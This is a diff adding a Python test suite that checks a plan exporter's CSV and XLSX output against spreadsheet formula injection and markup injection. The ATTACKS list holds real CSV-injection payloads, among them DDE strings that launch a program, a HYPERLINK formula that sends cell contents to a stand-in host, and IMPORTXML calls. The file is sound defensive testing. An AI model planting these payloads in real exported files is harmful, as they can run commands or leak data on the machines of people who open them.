@@ -1,0 +1,146 @@
+"""No text of a plan starts a formula in a table, and none is changed for it."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import unicodedata
+from typing import Any
+from zipfile import ZipFile
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from made import plans
+
+from exports.readers import docx_lines, read_json
+from workplan import Plan
+from workplan.edition import Edition
+from workplan.exports.cells import plain, safe
+from workplan.exports.plan_csv import plan_csv
+from workplan.exports.registry import exports
+from workplan.published import published_lines
+
+ATTACKS = (
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫a",
+    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example?"&A1,"see")', '=IMPORTXML("http://x.example","//a")', "=DDE(a;b;c)",
+    " =1", "  +1", "\u3000=1", "\u00a0@a", "'=1", "''=1", "'", '"=1"', '",=1', ";=1", ",=1", '"\r\n=1+1,"', "a\n=1", "a\t=1",
+    "{=1}", "%0A=1", "_x003D_1", "=", "+", "-", "@",
+)  # fmt: skip
+
+STARTS = tuple("=+-@\t\r\n")
+MANY = settings(
+    deadline=None,
+    max_examples=12,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+
+
+def attacked(plan: Plan, attack: str) -> Edition:
+    """The plan with an attack at the start of every text."""
+
+    def poison(value: Any) -> Any:
+        if isinstance(value, dict):
+            return {k: attack + v if k in {"zh", "en"} else poison(v) for k, v in value.items()}
+        return [poison(item) for item in value] if isinstance(value, list) else value
+
+    data = poison(plan.model_dump(mode="json", exclude_none=True))
+    for section in data["sections"]:
+        for point in section["points"]:
+            point["units"] = [attack + unit for unit in point["units"]]
+    return Edition(Plan.model_validate(data))
+
+
+def starts_a_formula(cell: str) -> bool:
+    """Whether a program could take it for one: after blanks, and in full width too."""
+    shown = unicodedata.normalize("NFKC", re.sub(r"^[^\S\t\r\n]+", "", cell)[:1])
+    return shown.startswith(STARTS)
+
+
+def sheets(data: bytes) -> list[Any]:
+    return openpyxl.load_workbook(io.BytesIO(data)).worksheets
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
+def test_no_cell_of_csv_starts_a_formula(plan, attack):
+    edition = attacked(plan, attack)
+    text = plan_csv(edition).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+    assert {len(row) for row in rows} == {15}
+    assert not [cell for row in rows for cell in row if starts_a_formula(cell)]
+    said = [plain(row[4]) for row in rows[3:]]
+    assert said == [measure["zh"] for measure in edition.measures.values()]
+
+
+@pytest.mark.parametrize("attack", [a for a in ATTACKS if "\r" not in a], ids=ascii)
+def test_no_cell_of_xlsx_starts_a_formula(plan, attack):
+    edition = attacked(plan, attack)
+    known = exports(edition)
+    for name in ("plan.xlsx", "units/faguichu.xlsx"):
+        data = known[name].make(edition)
+        with ZipFile(io.BytesIO(data)) as archive:
+            for part in archive.namelist():
+                assert b"<f>" not in archive.read(part), part
+        for sheet in sheets(data):
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", cell
+                    assert cell.hyperlink is None, cell
+                    assert not starts_a_formula(str(cell.value or "")), cell.value
+    rows = list(sheets(known["plan.xlsx"].make(edition))[0].iter_rows(min_row=5, values_only=True))
+    assert [plain(row[4]) for row in rows] == [m["zh"] for m in edition.measures.values()]
+
+
+@pytest.mark.parametrize("words", ["<r><t>pwned</t></r>", "<r>&</r>", "<r></r>", "<t>", "&amp;"])
+def test_no_text_becomes_markup_of_a_workbook(plan, words):
+    data = plan.model_dump(mode="json", exclude_none=True)
+    data["sections"][0]["points"][0]["measures"][0]["zh"] = words
+    edition = Edition(Plan.model_validate(data))
+    sheet = sheets(exports(edition)["plan.xlsx"].make(edition))[0]
+    assert plain(sheet["E5"].value) == words
+
+
+@given(st.text())
+def test_a_cell_gives_its_text_back(text):
+    assert plain(safe(text)) == text
+    assert not starts_a_formula(safe(text))
+
+
+def test_harmless_texts_stay_as_they_are(edition):
+    for _, text in edition.passages:
+        assert safe(text) == text
+
+
+def test_csv_is_quoted_as_excel_quotes(plan):
+    text = plan_csv(attacked(plan, 'a"b,c\r\nd')).decode("utf-8-sig")
+    lines = re.split(r'(?<=")\r\n(?=")', text.removesuffix("\r\n"))
+    field = r'"(?:[^"]|"")*"'
+    for line in lines:
+        assert re.fullmatch(f"{field}(?:,{field})*", line), line
+    assert '"a""b,c\r\nd' in text
+
+
+@given(plans())
+@MANY
+def test_made_plans_come_through_every_export(data):
+    edition = Edition(Plan.model_validate(data))
+    made = {name: export.make(edition) for name, export in exports(edition).items()}
+    assert all(made.values())
+    lines = published_lines(edition.plan)
+    assert made["plan.txt"].decode() == "".join(line + "\n" for line in lines)
+    assert docx_lines(made["plan.zh.docx"], "Title", "Heading 1", "Body Text") == lines
+    measures = [measure["zh"] for measure in edition.measures.values()]
+    rows = list(csv.reader(io.StringIO(made["plan.csv"].decode("utf-8-sig"), newline="")))
+    assert [plain(row[4]) for row in rows[3:]] == measures
+    sheet = sheets(made["plan.xlsx"])[0]
+    cells = [plain(row[4]) for row in sheet.iter_rows(min_row=5, values_only=True)]
+    assert cells == measures
+    assert [
+        t
+        for _, points in read_json(made["plan.json"], "zh").sections
+        for p in points
+        for t in p[1:]
+    ] == measures
